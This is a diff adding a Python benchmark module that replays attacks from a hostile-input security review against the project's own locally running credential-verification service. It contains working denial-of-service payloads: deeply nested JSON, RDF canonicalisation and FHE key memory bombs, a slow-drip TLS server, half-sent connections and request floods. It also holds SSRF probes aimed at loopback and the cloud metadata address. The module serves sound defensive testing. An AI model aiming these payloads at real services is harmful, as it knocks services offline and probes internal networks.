@@ -1,0 +1,322 @@
+"""The attacks ``bench/hostile.py`` replays: each builds its input, sends it, and sums up the answer.
+
+They are the reproductions of the hostile-input review (issue 13), sized as reported. The regression
+tests (tests/api/test_hostile_server.py, test_load_shedding.py, tests/issuer, tests/did, tests/fhe)
+assert the behaviour; this file only measures it against a running service.
+"""
+
+from __future__ import annotations
+
+import base64
+import os
+import socket
+import threading
+import time
+from collections import Counter
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import dataclass, field
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import cv2
+import httpx
+
+from did import Ed25519KeyPair, did_key_from_public_key
+from did._multiformats import multibase_b58_encode
+
+ROOT = Path(__file__).resolve().parent.parent
+TESTDATA = Path(os.environ.get("LIVECRED_TESTDATA_DIR", ROOT.parent / "shared/testdata"))
+V1 = "https://www.w3.org/2018/credentials/v1"
+LIVENESS = "http://localhost:5003/contexts/liveness/v1"  # the default deployment's context URL
+
+
+@dataclass(frozen=True)
+class Target:
+    url: str
+    pid: int
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    run: Callable[[Target], str]
+    env: Callable[[], dict[str, str]] = field(default=dict)
+
+
+def face_body() -> dict[str, str]:
+    image = cv2.imread(str(TESTDATA / "silentface_real_spoof/image_T1.jpg"))
+    ok, buf = cv2.imencode(".jpg", image)
+    assert ok
+    return {"image": base64.b64encode(buf.tobytes()).decode()}
+
+
+def _answer(response: httpx.Response) -> str:
+    try:
+        body = response.json()
+    except ValueError:
+        return str(response.status_code)
+    code = body.get("code") or body.get("error") if isinstance(body, dict) else None
+    if code is None and isinstance(body, dict) and "verified" in body:
+        code = f"verified={body['verified']}"
+    return f"{response.status_code} {code or ''}".strip()
+
+
+def _post(target: Target, path: str, *, timeout: float = 300, **kwargs: Any) -> str:
+    try:
+        return _answer(httpx.post(target.url + path, timeout=timeout, **kwargs))
+    except httpx.TimeoutException:
+        return f"no answer in {timeout:.0f} s"
+    except httpx.HTTPError as exc:
+        return f"connection failed ({type(exc).__name__})"
+
+
+def _counts(answers: list[str]) -> str:
+    return ", ".join(f"{a} x{n}" for a, n in Counter(answers).most_common())
+
+
+# -- 1. one request kills the process --------------------------------------------------------
+
+
+def deep_json(target: Target) -> str:
+    body = b"[" * 100_000 + b"]" * 100_000
+    headers = {"content-type": "application/json"}
+    return _counts([_post(target, p, content=body, headers=headers) for p in ("/credentials/verify", "/sessions")])
+
+
+# -- 2. CPU bombs in credential verification -------------------------------------------------
+
+
+def _unsigned_credential(**extra: Any) -> dict[str, Any]:
+    """A credential of a fresh did:key issuer with a well-formed (but wrong) eddsa-rdfc-2022 proof."""
+    key = Ed25519KeyPair.generate()
+    issuer = did_key_from_public_key(key.public_key)
+    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
+    credential: dict[str, Any] = {
+        "@context": [V1, LIVENESS, "https://w3id.org/security/data-integrity/v2"],
+        "id": "urn:uuid:3f1f7c52-8f0e-4a8e-9a55-0d2b1f1d1c11",
+        "type": ["VerifiableCredential", "LivenessCredential"],
+        "issuer": issuer,
+        "issuanceDate": now,
+        "credentialSubject": {"id": issuer, "deviceType": "mobile", "timestamp": now},
+        **extra,
+    }
+    credential["proof"] = {
+        "type": "DataIntegrityProof",
+        "cryptosuite": "eddsa-rdfc-2022",
+        "created": now,
+        "verificationMethod": f"{issuer}#{issuer.removeprefix('did:key:')}",
+        "proofPurpose": "assertionMethod",
+        "proofValue": multibase_b58_encode(key.sign(b"not the credential")),
+    }
+    return credential
+
+
+def blank_node_bomb(nodes: int) -> Callable[[Target], str]:
+    def run(target: Target) -> str:
+        labels = [f"_:b{i}" for i in range(nodes)]
+        evidence = [{"id": label, "type": "LivenessCheckEvidence", "verifier": labels} for label in labels]
+        credential = _unsigned_credential(evidence=evidence)
+        return _post(target, "/credentials/verify", json={"verifiableCredential": credential})
+
+    return run
+
+
+def nested_subject(target: Target) -> str:
+    inner: dict[str, Any] = {"deviceType": "mobile"}
+    for _ in range(200):
+        inner = {"type": "LivenessCheckEvidence", "verifier": [inner]}
+    credential = _unsigned_credential()
+    credential["credentialSubject"]["evidence"] = [inner]
+    return _post(target, "/credentials/verify", json={"verifiableCredential": credential})
+
+
+# -- 3. memory bomb in encrypted matching ---------------------------------------------------------
+
+
+def fhe_galois_bomb(target: Target) -> str:
+    """A genuine public context (default parameters) whose Galois-key object is a zstd stream of one
+    genuine key repeated for every slot, re-enveloped: under 1 MB on the wire, gigabytes loaded."""
+    import sys
+
+    import numpy as np
+
+    sys.path.insert(0, str(ROOT))
+    from api.fhe_engine import engine_model_spec
+    from fhe import CipherFace, encode_base64
+    from tests.fhe import seal_bombs
+
+    holder = CipherFace(engine_model_spec())
+    public = holder.public_context()
+    galois = seal_bombs.repeated_galois_key(seal_bombs.context_objects(public).galois_keys)
+    attack = seal_bombs.with_objects(public, galois_keys=galois)
+    rng = np.random.default_rng(0)
+    a, b = (holder.encrypt(rng.normal(size=128)).to_base64() for _ in range(2))
+    body = {"publicContext": encode_base64(attack), "a": a, "b": b}
+    return f"{_post(target, '/fhe/distance', json=body)} ({len(attack) / 1e6:.2f} MB context)"
+
+
+# -- 4. outbound fetches ----------------------------------------------------------------------
+
+
+class DripServer:
+    """Answers a TLS ClientHello with a record header announcing 16 KB, then one byte every 2 s:
+    each read by the client gets a byte in time, so per-read timeouts never fire."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(64)
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            conn, _ = self.sock.accept()
+            threading.Thread(target=self._drip, args=(conn,), daemon=True).start()
+
+    @staticmethod
+    def _drip(conn: socket.socket) -> None:
+        try:
+            conn.recv(4096)
+            conn.sendall(b"\x16\x03\x03\x40\x00")
+            while True:
+                time.sleep(2)
+                conn.sendall(b"\x00")
+        except OSError:
+            conn.close()
+
+
+_DRIP = DripServer()
+
+
+def _drip_env() -> dict[str, str]:
+    # For a service with SSRF protection, the drip host must be allowed explicitly to be reached at
+    # all (it is on loopback); this measures the fetch deadline, the other attack the refusal.
+    return {"LIVECRED_OUTBOUND_ALLOW_HOSTS": f"localhost:{_DRIP.port}"}
+
+
+def slow_drip_sessions(target: Target) -> str:
+    holder = f"did:web:localhost%3A{_DRIP.port}"
+    body = {"holderDid": holder, "deviceType": "mobile"}
+    with ThreadPoolExecutor(8) as pool:
+        answers = list(pool.map(lambda _: _post(target, "/sessions", json=body, timeout=60), range(8)))
+    return _counts(answers)
+
+
+def ssrf_probe(target: Target) -> str:
+    """did:web holders at internal addresses: a closed port, an open silent one, metadata, decimal IP."""
+    silent = socket.socket()
+    silent.bind(("127.0.0.1", 0))
+    silent.listen(8)
+    closed = socket.socket()
+    closed.bind(("127.0.0.1", 0))
+    closed_port = closed.getsockname()[1]
+    closed.close()
+    hosts = [f"127.0.0.1%3A{closed_port}", f"127.0.0.1%3A{silent.getsockname()[1]}", "169.254.169.254", "2130706433"]
+    answers = []
+    messages = set()
+    for host in hosts:
+        try:
+            response = httpx.post(
+                target.url + "/sessions", json={"holderDid": f"did:web:{host}", "deviceType": "mobile"}, timeout=60
+            )
+            answers.append(_answer(response))
+            messages.add(response.text)
+        except httpx.HTTPError as exc:
+            answers.append(type(exc).__name__)
+    silent.close()
+    return f"{_counts(answers)}; {len(messages)} distinct bodies"
+
+
+# -- 5. load shedding -----------------------------------------------------------------------------
+
+
+def _verify_body() -> dict[str, str]:
+    image = face_body()["image"]
+    return {"idImage": image, "selfieImage": image}
+
+
+def flood_verify(target: Target) -> str:
+    body = _verify_body()
+    with ThreadPoolExecutor(64) as pool:
+        answers = list(pool.map(lambda _: _post(target, "/verify", json=body, timeout=120), range(64)))
+    return _counts(answers)
+
+
+def abandoned_verify(target: Target) -> str:
+    body = _verify_body()
+
+    def fire(_: int) -> str:
+        return _post(target, "/verify", json=body, timeout=0.3)
+
+    with ThreadPoolExecutor(64) as pool:
+        answers = list(pool.map(fire, range(256)))
+    time.sleep(5)  # what the server still computes for clients that left
+    return _counts(answers)
+
+
+def big_bodies(target: Target) -> str:
+    junk = base64.b64encode(os.urandom(9 * 1024 * 1024)).decode()
+    body = {"idImage": junk, "selfieImage": junk}  # 24 MB, under the two-image limit
+    with ThreadPoolExecutor(32) as pool:
+        answers = list(pool.map(lambda _: _post(target, "/verify", json=body, timeout=120), range(32)))
+    return _counts(answers)
+
+
+def half_sent(target: Target) -> str:
+    port = int(target.url.rsplit(":", 1)[1])
+    socks = []
+    for _ in range(1000):
+        s = socket.create_connection(("127.0.0.1", port))
+        s.sendall(b"POST /detect HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n")
+        socks.append(s)
+    time.sleep(20)
+    still_open = 0
+    for s in socks:
+        s.setblocking(False)
+        try:
+            still_open += s.recv(1) != b""
+        except BlockingIOError:
+            still_open += 1
+        except OSError:
+            pass
+        s.close()
+    return f"{still_open}/1000 still open after 20 s"
+
+
+def _flood(target: Target, path: str, n: int, **kwargs: Any) -> str:
+    with httpx.Client(base_url=target.url, timeout=60) as client:
+        answers = []
+        for _ in range(n):
+            try:
+                answers.append(_answer(client.post(path, **kwargs)))
+            except httpx.HTTPError as exc:
+                answers.append(type(exc).__name__)
+    return _counts(answers)
+
+
+def session_flood(target: Target) -> str:
+    holder = did_key_from_public_key(Ed25519KeyPair.generate().public_key)
+    return _flood(target, "/sessions", 200, json={"holderDid": holder, "deviceType": "mobile"})
+
+
+def nonce_flood(target: Target) -> str:
+    return _flood(target, "/nonce", 500)
+
+
+ATTACKS: list[Attack] = [
+    Attack("deep_json", deep_json),
+    Attack("blank_node_bomb_7", blank_node_bomb(7)),
+    Attack("nested_subject_200", nested_subject),
+    Attack("fhe_galois_bomb", fhe_galois_bomb),
+    Attack("ssrf_probe", ssrf_probe),
+    Attack("slow_drip_did_web", slow_drip_sessions, _drip_env),
+    Attack("flood_verify_64", flood_verify),
+    Attack("abandoned_verify_256", abandoned_verify),
+    Attack("big_bodies_32x24MB", big_bodies),
+    Attack("half_sent_1000", half_sent),
+    Attack("session_flood_200", session_flood),
+    Attack("nonce_flood_500", nonce_flood),
+]
